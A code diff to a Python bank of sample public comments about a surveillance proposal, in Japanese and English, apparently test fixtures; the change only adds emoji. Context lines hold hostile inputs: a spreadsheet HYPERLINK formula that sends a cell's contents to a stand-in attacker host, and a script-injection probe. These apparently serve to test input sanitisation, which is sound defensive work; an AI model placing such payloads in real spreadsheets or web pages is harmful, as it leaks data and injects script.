@@ -63,7 +63,7 @@ BANK: dict[str, dict[str, Any]] = {
             '=HYPERLINK("https://evil.example/?"&A1,"詳細") 監視には反対です。',
             "<script>alert('x')</script> 令状なしの照合は認められません。",
             "詳しくは https://example.org/opinion をご覧ください。[メール]へのご連絡も可能です。",
-            "子どもの通学路の安全のためには役立つと思います。",
+            "子どもの通学路の安全のためには役立つと思います🙏",
             "+81 の番号への通知ではなく、本人に書面で知らせてください。",
         ],
         "clauses": [
@@ -169,7 +169,7 @@ BANK: dict[str, dict[str, Any]] = {
             '=HYPERLINK("https://evil.example/?"&A1,"more") I oppose this.',
             "<script>alert('x')</script> Matching without a warrant is unacceptable.",
             "See https://example.org/opinion for details. Write to [email].",
-            "It would help keep children safe on the way to school.",
+            "It would help keep children safe on the way to school 👍",
             "@everyone please read the proposal before supporting it.",
         ],
         "clauses": [
